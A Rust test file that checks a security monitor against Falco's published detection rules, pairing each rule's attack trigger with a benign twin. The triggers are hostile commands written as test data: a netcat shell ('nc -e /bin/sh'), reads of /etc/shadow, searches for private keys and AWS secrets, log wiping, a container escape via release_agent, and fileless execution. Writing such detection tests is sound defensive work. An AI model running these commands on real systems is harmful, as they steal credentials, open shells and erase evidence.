//! The published rules of Falco, as they are, from the data beside the checkout.

use crate::row::{Row, in_py, in_sh, in_terminal, py, row, sh};
use crate::table;
use anyhow::{Result, ensure};
use hostward_tests::{Part, Setup, lacks, need, place};
use std::collections::BTreeSet;

/// What the cluster's own name means, as a cluster's name server would tell it.
const HOSTS: &str = "203.0.113.9 kubernetes.default.svc.cluster.local\n";

const ROWS: &[Row] = &[
    row(
        "Directory traversal monitored file read",
        py("read('../../../../../etc/passwd')"),
        py("read('/etc/passwd')"),
    ),
    row(
        "Read sensitive file trusted after startup",
        py(
            "subprocess.run([be('./httpd'), '-c', 'import os, time; time.sleep(5.5); os.open(\"/etc/shadow\", 0)'])",
        ),
        py("subprocess.run([be('./httpd'), '-c', 'import os; os.open(\"/etc/shadow\", 0)'])"),
    ),
    row("Read sensitive file untrusted", py("read('/etc/shadow')"), sh("read line < /etc/shadow")),
    row(
        "Run shell untrusted",
        sh("be nginx sh; ./nginx -c 'sh -c :; :'"),
        sh("be tool sh; ./tool -c 'sh -c :; :'"),
    ),
    row(
        "System user interactive",
        sh("be sshd sh; ./sshd -c 'setpriv --reuid nobody --clear-groups id; :'"),
        sh("be sshd sh; ./sshd -c 'id; :'"),
    ),
    row("Terminal shell in container", in_terminal("exit 0"), in_sh("exit 0")),
    row(
        "Netcat Remote Code Execution in Container",
        in_sh("as nc -e /bin/sh host 9"),
        in_sh("as nc -w 1 host 9"),
    ),
    row("Search Private Keys or Passwords", sh("find . -name id_rsa"), sh("find . -name readme")),
    row(
        "Clear Log Activities",
        py("write('/var/log/syslog', os.O_TRUNC)"),
        py("write('/var/log/syslog', os.O_APPEND)"),
    ),
    row("Remove Bulk Data from Disk", sh(": > x; shred -u x"), sh(": > x; rm x")),
    row(
        "Create Symlink Over Sensitive Files",
        py("os.symlink('/etc/shadow', 'x')"),
        py("os.symlink('/etc/hostname', 'x')"),
    ),
    row(
        "Create Hardlink Over Sensitive Files",
        py("os.link('/etc/shadow', '/etc/hw-link')"),
        py("os.link('/etc/hostname', '/etc/hw-other')"),
    ),
    row(
        "Packet socket created in container",
        in_py("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)"),
        py("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)"),
    ),
    row(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        in_py(
            "s = serve('127.0.0.1')\nc = socket.create_connection(s.getsockname())\nos.dup2(c.fileno(), 0)",
        ),
        in_py("os.dup2(os.open('/dev/null', os.O_RDONLY), 0)"),
    ),
    row(
        "Linux Kernel Module Injection Detected",
        in_py("call(175, 105, 0, 0, b'')"),
        py("call(175, 105, 0, 0, b'')"),
    )
    .needs("/proc/modules"),
    row("Debugfs Launched in Privileged Container", in_sh("as debugfs"), sh("as debugfs")),
    row(
        "Detect release_agent File Container Escapes",
        in_py("write('release_agent')"),
        py("write('release_agent')"),
    ),
    row(
        "PTRACE attached to process",
        py("p = subprocess.Popen(['sleep', '5'])\nlibc.ptrace(0x4206, p.pid, 0, 0)\np.kill()"),
        py("libc.process_vm_readv(os.getppid(), None, 0, None, 0, 0)"),
    ),
    row(
        "PTRACE anti-debug attempt",
        py("if os.fork() == 0:\n    libc.ptrace(0, 0, 0, 0)\n    os._exit(0)\nos.wait()"),
        py("p = subprocess.Popen(['sleep', '5'])\nlibc.ptrace(0x4206, p.pid, 0, 0)\np.kill()"),
    ),
    row("Find AWS Credentials", sh(": > x; grep aws_secret_access_key x"), sh(": > x; grep aws_region x")),
    row(
        "Execution from /dev/shm",
        sh("be /dev/shm/tool /bin/true; /dev/shm/tool"),
        sh("be /opt/tool /bin/true; /opt/tool"),
    ),
    row(
        "Drop and execute new binary in container",
        in_sh("cp /bin/busybox /dropped; /dropped true"),
        in_sh("/bin/busybox true"),
    ),
    row(
        "Disallowed SSH Connection Non Standard Port",
        py(
            "s = serve(port=443)\nsubprocess.run([be('./ssh', 'bash'), '-c', ': > /dev/tcp/203.0.113.7/443'])",
        ),
        py("s = serve(port=22)\nsubprocess.run([be('./ssh', 'bash'), '-c', ': > /dev/tcp/203.0.113.7/22'])"),
    ),
    // Nobody is there, which is no matter: the attempt is told.
    row(
        "Contact K8S API Server From Container",
        in_py("socket.socket().connect_ex(('203.0.113.9', 443))"),
        in_py("socket.socket().connect_ex(('203.0.113.8', 443))"),
    ),
    row(
        "Fileless execution via memfd_create",
        py(
            "fd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\nos.execve(fd, ['x'], {})",
        ),
        py("os.execve(os.open('/bin/true', os.O_RDONLY), ['true'], {})"),
    ),
];

#[test]
fn every_published_rule_tells_its_attack_and_spares_its_twin() -> Result<()> {
    let name = "every_published_rule_tells_its_attack_and_spares_its_twin";
    if lacks(Part::Kernel, name) || lacks(Part::Mount, name) {
        return Ok(());
    }
    let file = place::shared("data/falco_rules.yaml");
    let Ok(text) = std::fs::read_to_string(&file) else {
        need::skip("data", name, &format!("{} is not there", file.display()));
        return Ok(());
    };
    let rules: BTreeSet<&str> = text.lines().filter_map(|line| line.strip_prefix("- rule: ")).collect();
    let tested: BTreeSet<&str> = ROWS.iter().map(|row| row.rule).collect();
    ensure!(
        rules == tested,
        "rules and rows differ: {:?}",
        rules.symmetric_difference(&tested).collect::<Vec<_>>()
    );
    table::check(name, ROWS, |config| Setup::new()?.config(config)?.hosts(HOSTS)?.rules(&text))
}
